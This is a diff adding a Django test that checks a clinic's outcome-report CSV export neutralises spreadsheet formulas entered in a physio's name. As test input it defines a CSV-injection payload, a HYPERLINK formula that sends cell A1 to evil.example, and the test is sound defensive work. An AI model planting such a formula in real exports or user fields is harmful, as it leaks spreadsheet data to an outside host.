@@ -16,7 +16,7 @@ from django.utils import timezone
 from assessments import measures
 from assessments.models import Measurement, WorkingDiagnosis
 from clinic.models import EpisodeOfCare, Visit
-from tests.factories import EpisodeFactory, PatientFactory, VisitFactory
+from tests.factories import EpisodeFactory, PatientFactory, UserFactory, VisitFactory
 from treatments.models import AdverseEvent, DeliveredIntervention
 from treatments.reports import GroupBy, ReportFilters, outcome_report, report_cells
 
@@ -299,6 +299,27 @@ def test_csv_is_exactly_the_table(client_for, clinic_admin, clinic):
         "Education",
         "All episodes",
     ]
+
+
+EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+
+
+def test_a_formula_in_a_group_name_is_exported_as_text(client_for, clinic_admin):
+    """A physio's name is a group label; typed as a formula, the CSV neutralises it (OWASP:
+    a leading apostrophe) while a negative change stays a number (issue 10, part 7)."""
+    evil = UserFactory(username="evil", first_name=EVIL, last_name="@SUM(1+1)")
+    _episode(evil, visits=[{"nprs": 8}, {"nprs": 4.5}])
+
+    response = client_for(clinic_admin).get(
+        reverse("treatments:outcome_report_csv"), {"group_by": "physio"}
+    )
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    by_label = {row[0]: row for row in rows[1:]}
+    assert f"'{EVIL} @SUM(1+1)" in by_label
+    assert not any(cell.startswith(("=", "@", "+")) for row in rows for cell in row)
+    change = rows[0].index("NPRS mean change")
+    assert by_label[f"'{EVIL} @SUM(1+1)"][change] == "-3.5"
 
 
 def test_report_page_has_charts_tabs_and_links_to_each_group(client_for, clinic_admin, clinic):
